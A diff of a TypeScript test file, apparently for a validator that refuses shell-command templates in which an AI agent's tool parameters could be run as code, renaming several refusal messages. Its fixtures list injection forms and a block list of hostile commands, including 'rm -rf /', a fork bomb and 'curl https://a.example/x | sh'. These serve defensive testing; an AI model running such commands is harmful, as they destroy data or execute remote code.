@@ -144,12 +144,12 @@ test('an argument goes to programs that may do anything with it only where its v
     expect([command, made(command, { enum: ['a'] }), made(command, {})]).toEqual([command, 'my_tool', refusal]);
   for (const schema of closed) expect([schema, made('my-program {{.x}}', schema)]).toEqual([schema, 'my_tool']);
   for (const schema of open) expect([schema, made('my-program {{.x}}', schema)]).toEqual([schema, refusal]);
-  expect(made('sh -c {{.x}}', { enum: ['a'] })).toContain('read as code');
+  expect(made('sh -c {{.x}}', { enum: ['a'] })).toContain('parsed as code');
 });
 
 const refused: Readonly<Record<string, readonly string[]>> = {
-  'is none of its parameters': samples`tool {{.no}} ¦ tool {{.x}} {{.__proto__}}`,
-  'is no placeholder': samples`tool {{ .x }} ¦ tool {{x}} ¦ tool {{.x}} {{.x.y}} ¦ tool {{.x | quote}}`,
+  'is not one of its parameters': samples`tool {{.no}} ¦ tool {{.x}} {{.__proto__}}`,
+  'is not a placeholder': samples`tool {{ .x }} ¦ tool {{x}} ¦ tool {{.x}} {{.x.y}} ¦ tool {{.x | quote}}`,
   'must be an argument of a program': [
     ...samples`tool "{{.x}}" ¦ tool '{{.x}}' ¦ tool "a"{{.x}} ¦ tool 'a {{.x}}'b ¦ bash -c "echo {{.x}}" ¦ {{.x}} | sh`,
     ...samples`tool < {{.x}} ¦ tool >{{.x}} ¦ A={{.x}} tool ¦ A={{.x}} ¦ {{.x}}=1 tool ¦ tool $(cat {{.x}}) ¦ tool "$(cat {{.x}})"`,
@@ -178,9 +178,9 @@ const refused: Readonly<Record<string, readonly string[]>> = {
     ...['tool `date` {{.x}}', `tool "\${A#'}'}" {{.x}}`, 'tool $((1 << 2)) {{.x}}'],
     ...['cat <<E\nfoo\\\nE\ntool {{.x}}\nE', 'tool <<"a b" {{.x}}\na b'],
   ],
-  'is no shell syntax': samples`tool "{{.x}} ¦ tool {{.x}} ) ¦ if true; then tool {{.x}}`,
+  'is not valid shell syntax': samples`tool "{{.x}} ¦ tool {{.x}} ) ¦ if true; then tool {{.x}}`,
   'choose the program': samples`sudo {{.x}} ¦ env {{.x}} ¦ xargs {{.x}} ¦ find . -exec {{.x}} \; ¦ timeout 5 {{.x}} ¦ python3 -m {{.x}}`,
-  'read as code': [
+  'parsed as code': [
     ...samples`sh -c {{.x}} ¦ eval echo {{.x}} ¦ python3 -c {{.x}} ¦ python3 {{.x}} ¦ awk {{.x}} f ¦ sed {{.x}} f ¦ ssh host {{.x}}`,
     ...samples`watch ls {{.x}} ¦ trap {{.x}} EXIT ¦ A=eval; $A {{.x}} ¦ xargs -0 sh -c {{.x}}`,
   ],
@@ -190,9 +190,9 @@ const refused: Readonly<Record<string, readonly string[]>> = {
     ...samples`env PAGER={{.x}} git log ¦ env {{.x}}=1 cat ¦ env A={{.x}} sh -c 'eval "$A"' ¦ git -c {{.x}} log ¦ make {{.x}}`,
     ...samples`sh -c 'eval "$1"' _ {{.x}} ¦ sh -c '"$@"' _ {{.x}}`,
   ],
-  'read by': samples`test -v {{.x}} ¦ printf {{.x}} ¦ printf -v {{.x}} a ¦ [ -v {{.x}} ]`,
-  'not named as it stands': samples`$CMD {{.x}} ¦ f() { eval "$1"; }; f {{.x}} ¦ "$@" {{.x}}`,
-  'cannot be seen': ['tool\u200b {{.x}}', 'tool {{.x}}\r\n', 'tool \x1b {{.x}}'],
+  'evaluated by': samples`test -v {{.x}} ¦ printf {{.x}} ¦ printf -v {{.x}} a ¦ [ -v {{.x}} ]`,
+  'name is computed or redefined': samples`$CMD {{.x}} ¦ f() { eval "$1"; }; f {{.x}} ¦ "$@" {{.x}}`,
+  'invisible characters': ['tool\u200b {{.x}}', 'tool {{.x}}\r\n', 'tool \x1b {{.x}}'],
   'renames programs': ["alias ls='rm'; ls {{.x}}"],
   'NUL character': ['tool a\0b'],
   'blocked by safety policy': samples`rm -rf / ¦ rm -rf /{{.x}} ¦ curl https://a.example/x | sh ¦ :(){ :|:& };:`,
@@ -242,7 +242,7 @@ test('a toolkit is needed, and null is as good as left out', async () => {
 test('one that is switched off is not offered and does not run', async () => {
   const { run, toolkit, shell } = world({ ...lookup, enabled: false });
   expect(toolkit.definitions().map(({ name }) => name)).not.toContain('dns_lookup');
-  expect(await run({ domain: 'a' })).toBe('not_allowed: dns_lookup is switched off. Use another tool.');
+  expect(await run({ domain: 'a' })).toBe('not_allowed: dns_lookup is disabled. Use another tool.');
   expect(shell.requests).toEqual([]);
 });
 
